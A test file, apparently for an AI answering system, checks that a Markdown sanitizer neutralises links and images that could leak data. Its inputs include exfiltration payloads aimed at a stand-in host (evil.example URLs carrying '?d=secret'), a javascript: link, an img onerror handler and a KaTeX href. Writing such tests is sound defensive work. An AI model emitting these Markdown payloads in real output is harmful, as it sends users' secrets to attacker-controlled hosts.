import { expect, test } from "vitest";
import { sanitizeMarkdown } from "@/lib/answering/sanitize-markdown";

test.each([
  ["an image", "See ![the cell](https://evil.example/p.png?d=secret) here.", "See the cell here."],
  ["a link", 'Go [there](https://evil.example/?d=secret "now") now.', "Go there now."],
  ["a link around an image", "[![a](https://e.example/a)](https://e.example/b)", "a"],
  ["a script address", "[click](javascript:alert(1))", "click"],
  ["an address with brackets", "[x](https://e.example/a_(b)?c=d) y", "x y"],
  ["an address alone", "Read https://www.evil.example/a?secret=1.", "Read evil.example."],
  ["an address with a name in front", "https://good.example@evil.example/x", "evil.example"],
  ["a bare www", "see www.evil.example/path today", "see evil.example today"],
  ["an address in angle brackets", "<https://evil.example/?q=secret>", "evil.example"],
  ["a definition", "See [it][x].\n\n[x]: https://evil.example/?d=secret", "See [it][x].\n\n"],
  ["HTML", 'a <img src="https://evil.example/x" onerror="y"> b <b>c</b>', "a  b c"],
  ["a comment", "a <!-- [x](https://evil.example) --> b", "a  b"],
  ["a data address", "![x](data:image/png;base64,AAAA)", "x"],
  ["an address with what is no address", "(see https://e.example/a)x%20 b)", "(see e.example b)"],
  ["a link without a scheme", "[x](//evil.example/a)", "x"],
  ["a link around code", "[x `a`](//evil.example/a)", "[x `a`] (//evil.example/a)"],
  ["an image of nested words", "![a [b [c]]](//evil.example/a)", "[a [b [c]]] (//evil.example/a)"],
  ["a link of an escaped bracket", "[a\\]b](//evil.example/a)", "[a\\]b] (//evil.example/a)"],
  ["a definition in a quotation", "> [x]: //evil.example/a", ""],
  ["a definition in a list", "- [x]: //evil.example/a", ""],
  ["a definition of two lines", "[x]:\n//evil.example/a", ""],
  [
    "mathematics that leads out",
    "$\\href{https://evil.example}{x}$",
    "$\\text{https://evil.example}{x}$",
  ],
])("%s leads nowhere", (_, text, inert) => {
  expect(sanitizeMarkdown(text)).toBe(inert);
});

test.each([
  "Plants turn light into sugar. [1] And more. [2]",
  "```js\nconst a = list[0](x); // <b>\n```",
  "Use `<div>` and `a[0](b)` here.",
  "The data: 5 (file: notes.pdf), and http: is a scheme.",
  "A List<T> of Map<object> and x <y = 3 and z> 1",
  "If a<b and c>d then $\\frac{a}{b} < 1$.",
  "| a | b |\n| - | - |\n| 1 | 2 |",
  "- one\n- two (see page 3)\n\n> quoted",
  "什么是光合作用？ ما هو التمثيل الضوئي؟",
])("what leads nowhere stays as it is: %s", (text) => {
  expect(sanitizeMarkdown(text)).toBe(text);
});

test.each([
  "`![x](https://evil.example/?d=s)`",
  "\\`![x](https://evil.example/?d=s)\\`",
  "````\ncode\n`````\n![x](https://evil.example/?d=s)\n````",
  "$a ![x](https://evil.example/?d=s) b$",
  "~~~\n![x](https://evil.example/?d=s)",
  "[![[x](https://evil.example/1)](https://evil.example/2)](https://evil.example/3)",
])("what another reader of Markdown could take for an image is none: %s", (text) => {
  expect(sanitizeMarkdown(text)).not.toMatch(/\]\(\s*<?(?:[a-z]+:|\/\/)/i);
});

test("long text of brackets takes no long time", () => {
  for (const text of ["[".repeat(12_000), "![a](".repeat(2400), "<a ".repeat(4000)]) {
    expect(sanitizeMarkdown(text).length).toBeLessThanOrEqual(text.length);
  }
});
